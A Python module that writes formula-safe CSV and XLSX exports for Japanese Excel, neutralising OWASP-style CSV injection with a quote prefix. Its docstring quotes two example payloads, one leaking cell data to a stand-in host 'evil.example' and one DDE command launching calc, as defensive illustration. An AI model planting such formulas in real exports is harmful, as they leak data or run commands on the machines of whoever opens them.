"""Exports for people: CSV that Japanese Excel opens correctly, or XLSX, both formula-safe.

**Formula injection (OWASP "CSV Injection").** A spreadsheet treats a cell whose text begins
with `=`, `+`, `-` or `@` as a formula, and a tab or carriage return at the start can smuggle
one in too. Exported cells hold text that other people typed (names, notes, BoE comments), so
a value like `=HYPERLINK("http://evil.example/?"&A1, "Click")` or `=cmd|' /C calc'!A0` would
run, or leak data, on the computer of whoever opens the export. Every text cell that starts
with one of those characters, also after leading spaces and in its full-width form (＝ ＋ － ＠,
which Japanese input methods produce and Excel may convert), is therefore prefixed with a
single quote `'`, so the spreadsheet shows it as text. Numbers are written as numbers and are
never changed: a negative number is not text that starts with `-`.
See https://owasp.org/www-community/attacks/CSV_Injection.

CSV is UTF-8 with a byte-order mark by default: without it, Japanese Excel reads UTF-8 as
CP932 and shows mojibake. XLSX uses openpyxl's write-only mode (rows streamed, not held as
cell objects), a bold frozen header row and column widths fitted to the first rows.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import unicodedata
from collections.abc import Iterable, Sequence
from typing import Literal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

ExportCell = str | int | float | bool | dt.date | None
Format = Literal["csv", "xlsx"]
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
BOM = b"\xef\xbb\xbf"
WIDTH_SAMPLE_ROWS = 200  # rows looked at to fit the column widths
MIN_WIDTH, MAX_WIDTH = 8, 60


def neutralise(text: str) -> str:
    """`text` prefixed with `'` if a spreadsheet could read it as a formula (see the module)."""
    if text[:1] in FORMULA_TRIGGERS or text.lstrip()[:1] in FORMULA_TRIGGERS:
        return "'" + text
    return text


def export_rows(
    header: Sequence[str],
    rows: Iterable[Sequence[ExportCell]],
    fmt: Format,
    *,
    excel_bom: bool = True,
    sheet_name: str = "export",
) -> bytes:
    """The header and rows as a CSV or XLSX file, every text cell formula-neutralised.

    None is an empty cell. For CSV, `excel_bom` adds the UTF-8 byte-order mark Excel needs to
    read UTF-8; for XLSX it has no effect.
    """
    if fmt == "csv":
        return _csv(header, rows, excel_bom)
    if fmt == "xlsx":
        return _xlsx(header, rows, sheet_name)
    raise ValueError(f"unknown export format {fmt!r}: choose csv or xlsx")


def _csv(header: Sequence[str], rows: Iterable[Sequence[ExportCell]], bom: bool) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    writer.writerows([_csv_cell(cell) for cell in row] for row in rows)
    return (BOM if bom else b"") + buffer.getvalue().encode("utf-8")


def _csv_cell(cell: ExportCell) -> str | int | float:
    if cell is None:
        return ""
    if isinstance(cell, bool):
        return "true" if cell else "false"
    if isinstance(cell, dt.date):
        return cell.isoformat()
    if isinstance(cell, str):
        return neutralise(cell)
    return cell


def _xlsx(header: Sequence[str], rows: Iterable[Sequence[ExportCell]], title: str) -> bytes:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title)
    iterator = iter(rows)
    sample = list(itertools.islice(iterator, WIDTH_SAMPLE_ROWS))
    for i, width in enumerate(_widths(header, sample), start=1):
        sheet.column_dimensions[get_column_letter(i)].width = width
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header_cells = []
    for name in header:
        cell = WriteOnlyCell(sheet, value=_xlsx_text(name))
        cell.font = bold
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in itertools.chain(sample, iterator):
        sheet.append([_xlsx_cell(sheet, cell) for cell in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_text(text: str) -> str:
    """Neutralised, without the control characters XLSX cannot hold (tab, CR, LF are kept)."""
    return neutralise(ILLEGAL_CHARACTERS_RE.sub("", text))


def _xlsx_cell(sheet: object, cell: ExportCell) -> object:
    if isinstance(cell, str):
        return _xlsx_text(cell)
    if isinstance(cell, dt.datetime):  # XLSX has no time zones: keep the wall-clock time
        formatted = WriteOnlyCell(sheet, value=cell.replace(tzinfo=None))
        formatted.number_format = "yyyy-mm-dd hh:mm:ss"
        return formatted
    if isinstance(cell, dt.date):
        formatted = WriteOnlyCell(sheet, value=cell)
        formatted.number_format = "yyyy-mm-dd"
        return formatted
    return cell


def _widths(header: Sequence[str], sample: Sequence[Sequence[ExportCell]]) -> list[float]:
    widths = [_display_width(name) for name in header]
    for row in sample:
        for i, cell in enumerate(row[: len(widths)]):
            widths[i] = max(widths[i], _display_width(_csv_cell(cell)))
    return [min(MAX_WIDTH, max(MIN_WIDTH, w + 2)) for w in widths]


def _display_width(value: object) -> int:
    """Characters as a spreadsheet shows them: full-width (e.g. Japanese) count double."""
    text = str(value)
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)
